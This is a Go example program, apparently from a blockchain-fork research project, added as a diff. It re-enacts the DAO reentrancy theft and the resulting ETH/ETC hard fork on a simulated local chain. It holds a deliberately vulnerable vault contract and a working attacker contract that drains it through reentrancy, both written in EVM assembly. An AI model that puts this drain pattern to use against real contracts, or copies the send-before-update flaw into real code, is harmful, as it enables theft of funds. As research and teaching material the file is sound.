@@ -1,0 +1,254 @@
+// daoattack reproduces the event that *caused* the fork the paper
+// studies: a DAO-style vault contract with a reentrancy bug, an attacker
+// contract that drains it, and the hard fork that erased the theft on one
+// chain (ETH) while the other (ETC) kept it — the moment the network
+// partitioned.
+//
+// Everything runs on the real substrate: the contracts are EVM bytecode
+// built with the internal assembler, the attack happens through mined
+// transactions, and the fork is the consensus-level irregular state
+// change.
+//
+//	go run ./examples/daoattack
+package main
+
+import (
+	"fmt"
+	"log"
+	"math/big"
+
+	"forkwatch/internal/chain"
+	"forkwatch/internal/evm"
+	"forkwatch/internal/types"
+)
+
+var (
+	deployer = types.HexToAddress("0xdep107e4")
+	attacker = types.HexToAddress("0xa77ac4e4")
+	victims  = []types.Address{
+		types.HexToAddress("0x01"), types.HexToAddress("0x02"),
+		types.HexToAddress("0x03"), types.HexToAddress("0x04"),
+	}
+	pool = types.HexToAddress("0x900100")
+)
+
+// vaultRuntime is a DAO-like vault: selector 1 = deposit (credits the
+// caller), selector 2 = withdraw (pays out the credit). The bug is the
+// order in withdraw: it SENDS FIRST and zeroes the credit AFTER, and the
+// send forwards enough gas for the recipient to run code — the exact shape
+// of the DAO vulnerability.
+func vaultRuntime() []byte {
+	a := evm.NewAsm()
+	a.Push(0).Op(evm.CALLDATALOAD)
+	a.Op(evm.DUP1).Push(1).Op(evm.EQ).JumpI("deposit")
+	a.Op(evm.DUP1).Push(2).Op(evm.EQ).JumpI("withdraw")
+	a.Op(evm.STOP)
+
+	a.Label("deposit") // [sel]
+	a.Op(evm.POP)
+	a.Op(evm.CALLER).Op(evm.SLOAD)  // [credit]
+	a.Op(evm.CALLVALUE).Op(evm.ADD) // [credit+value]
+	a.Op(evm.CALLER).Op(evm.SSTORE)
+	a.Op(evm.STOP)
+
+	a.Label("withdraw") // [sel]
+	a.Op(evm.POP)
+	a.Op(evm.CALLER).Op(evm.SLOAD) // [credit]
+	a.Op(evm.DUP1).Op(evm.ISZERO).JumpI("done")
+	// CALL(gas=200000, to=caller, value=credit, in=0:0, out=0:0)
+	a.Push(0).Push(0).Push(0).Push(0) // [credit, outSize, outOff, inSize, inOff]
+	a.Op(evm.DUP1 + 4)                // DUP5: value = credit
+	a.Op(evm.CALLER)
+	a.Push(200_000)
+	a.Op(evm.CALL).Op(evm.POP) // [credit]
+	// Zero the credit — but only after the external call above.
+	a.Push(0).Op(evm.CALLER).Op(evm.SSTORE)
+	a.Op(evm.POP)
+	a.Op(evm.STOP)
+	a.Label("done")
+	a.Op(evm.STOP)
+	return a.MustAssemble()
+}
+
+// attackerRuntime drains a vault: selector 0xA deposits the call value,
+// arms a re-entry counter, and calls withdraw. Every payout from the vault
+// lands in the fallback path, which re-enters withdraw while the credit is
+// still unzeroed.
+func attackerRuntime(vault types.Address) []byte {
+	a := evm.NewAsm()
+	a.Push(0).Op(evm.CALLDATALOAD)
+	a.Op(evm.DUP1).Push(0xA).Op(evm.EQ).JumpI("attack")
+	a.Op(evm.POP)
+	a.Jump("reenter")
+
+	a.Label("attack") // [sel]
+	a.Op(evm.POP)
+	// vault.deposit{value: callvalue}()
+	a.Push(1).Push(0).Op(evm.MSTORE)
+	a.Push(0).Push(0).Push(32).Push(0)
+	a.Op(evm.CALLVALUE)
+	a.PushAddr(vault)
+	a.Push(200_000)
+	a.Op(evm.CALL).Op(evm.POP)
+	// re-entry budget: 3 extra withdrawals
+	a.Push(3).Push(0).Op(evm.SSTORE)
+	// vault.withdraw()
+	a.Push(2).Push(0).Op(evm.MSTORE)
+	a.Push(0).Push(0).Push(32).Push(0).Push(0)
+	a.PushAddr(vault)
+	a.Push(400_000)
+	a.Op(evm.CALL).Op(evm.POP)
+	a.Op(evm.STOP)
+
+	a.Label("reenter")
+	a.Push(0).Op(evm.SLOAD) // [n]
+	a.Op(evm.DUP1).Op(evm.ISZERO).JumpI("halt")
+	a.Push(1).Op(evm.SWAP1).Op(evm.SUB) // [n-1]
+	a.Push(0).Op(evm.SSTORE)
+	a.Push(2).Push(0).Op(evm.MSTORE)
+	a.Push(0).Push(0).Push(32).Push(0).Push(0)
+	a.PushAddr(vault)
+	a.Push(200_000)
+	a.Op(evm.CALL).Op(evm.POP)
+	a.Op(evm.STOP)
+	a.Label("halt")
+	a.Op(evm.STOP)
+	return a.MustAssemble()
+}
+
+// initFor wraps runtime code in init code that returns it (the standard
+// deployment shape).
+func initFor(runtime []byte) []byte {
+	a := evm.NewAsm()
+	padded := make([]byte, (len(runtime)+31)/32*32)
+	copy(padded, runtime)
+	for i := 0; i < len(padded); i += 32 {
+		a.PushBytes(padded[i : i+32]).Push(uint64(i)).Op(evm.MSTORE)
+	}
+	a.Push(uint64(len(runtime))).Push(0).Op(evm.RETURN)
+	return a.MustAssemble()
+}
+
+func ether(n int64) *big.Int { return new(big.Int).Mul(big.NewInt(n), chain.Ether) }
+
+func inEther(wei *big.Int) string {
+	f := new(big.Float).Quo(new(big.Float).SetInt(wei), new(big.Float).SetInt(chain.Ether))
+	return f.Text('f', 2)
+}
+
+func main() {
+	// The vault and attacker addresses are known before deployment
+	// (contract addresses derive from creator and nonce), so the ETH
+	// fork config can name its drain target up front — just as the real
+	// DAO fork enumerated the DAO's addresses.
+	vaultAddr := evm.CreateAddress(deployer, 0)
+	attackerAddr := evm.CreateAddress(attacker, 0)
+	refund := types.HexToAddress("0x4efd")
+
+	gen := &chain.Genesis{
+		Difficulty: big.NewInt(131072),
+		Time:       1_469_000_000,
+		Alloc: map[types.Address]*big.Int{
+			deployer: ether(10),
+			attacker: ether(20),
+		},
+	}
+	for _, v := range victims {
+		gen.Alloc[v] = ether(200)
+	}
+
+	const forkBlock = 4
+	eth, err := chain.NewBlockchain(chain.ETHConfig(forkBlock, []types.Address{attackerAddr}, refund), gen)
+	if err != nil {
+		log.Fatal(err)
+	}
+	etc, err := eth.NewSibling(chain.ETCConfig(forkBlock), gen)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	mineShared := func(txs ...*chain.Transaction) *chain.Block {
+		b, err := eth.BuildBlock(pool, eth.Head().Header.Time+14, txs)
+		if err != nil {
+			log.Fatal(err)
+		}
+		if err := eth.InsertBlock(b); err != nil {
+			log.Fatal(err)
+		}
+		if err := etc.InsertBlock(b); err != nil {
+			log.Fatal(err)
+		}
+		return b
+	}
+
+	fmt.Println("== Act 1: the DAO era (shared chain) ==")
+	// Block 1: deploy both contracts.
+	deployVault := chain.NewTransaction(0, nil, nil, 2_000_000, big.NewInt(1), initFor(vaultRuntime())).
+		Sign(deployer, 0)
+	deployAttacker := chain.NewTransaction(0, nil, nil, 2_000_000, big.NewInt(1), initFor(attackerRuntime(vaultAddr))).
+		Sign(attacker, 0)
+	mineShared(deployVault, deployAttacker)
+	fmt.Printf("deployed vault at %s, attacker at %s\n", vaultAddr, attackerAddr)
+
+	// Block 2: victims deposit 150 ether each.
+	var deposits []*chain.Transaction
+	selDeposit := make([]byte, 32)
+	selDeposit[31] = 1
+	for _, v := range victims {
+		deposits = append(deposits,
+			chain.NewTransaction(0, &vaultAddr, ether(150), 200_000, big.NewInt(1), selDeposit).Sign(v, 0))
+	}
+	mineShared(deposits...)
+
+	st, _ := eth.HeadState()
+	fmt.Printf("vault holds %s ether of user deposits\n", inEther(st.GetBalance(vaultAddr)))
+
+	// Block 3: the attack. Deposit 10 ether, withdraw 4x via reentrancy.
+	selAttack := make([]byte, 32)
+	selAttack[31] = 0xA
+	attackTx := chain.NewTransaction(1, &attackerAddr, ether(10), 2_000_000, big.NewInt(1), selAttack).
+		Sign(attacker, 0)
+	mineShared(attackTx)
+
+	st, _ = eth.HeadState()
+	loot := st.GetBalance(attackerAddr)
+	fmt.Printf("after the attack: vault %s ether, attacker contract %s ether (deposited only 10)\n",
+		inEther(st.GetBalance(vaultAddr)), inEther(loot))
+	if loot.Cmp(ether(11)) <= 0 {
+		log.Fatal("reentrancy drain failed — expected the attacker to profit")
+	}
+
+	fmt.Println("\n== Act 2: the hard fork (the chains partition) ==")
+	// Block 4 is the fork block. Each chain mines its own; they refuse
+	// each other's from here on.
+	ethFork, err := eth.BuildBlock(pool, eth.Head().Header.Time+14, nil)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := eth.InsertBlock(ethFork); err != nil {
+		log.Fatal(err)
+	}
+	etcFork, err := etc.BuildBlock(pool, etc.Head().Header.Time+14, nil)
+	if err != nil {
+		log.Fatal(err)
+	}
+	if err := etc.InsertBlock(etcFork); err != nil {
+		log.Fatal(err)
+	}
+	if err := etc.InsertBlock(ethFork); err != nil {
+		fmt.Printf("ETC rejects ETH's fork block: %v\n", err)
+	}
+	if err := eth.InsertBlock(etcFork); err != nil {
+		fmt.Printf("ETH rejects ETC's fork block: %v\n", err)
+	}
+
+	ethSt, _ := eth.HeadState()
+	etcSt, _ := etc.HeadState()
+	fmt.Printf("\nETH (pro-fork):  attacker %s ether, refund contract %s ether\n",
+		inEther(ethSt.GetBalance(attackerAddr)), inEther(ethSt.GetBalance(refund)))
+	fmt.Printf("ETC (classic):   attacker %s ether, refund contract %s ether\n",
+		inEther(etcSt.GetBalance(attackerAddr)), inEther(etcSt.GetBalance(refund)))
+	fmt.Printf("\nstate roots: ETH %s\n             ETC %s\n",
+		eth.Head().Header.StateRoot, etc.Head().Header.StateRoot)
+	fmt.Println("two ledgers, one history, permanently partitioned — the paper's subject.")
+}
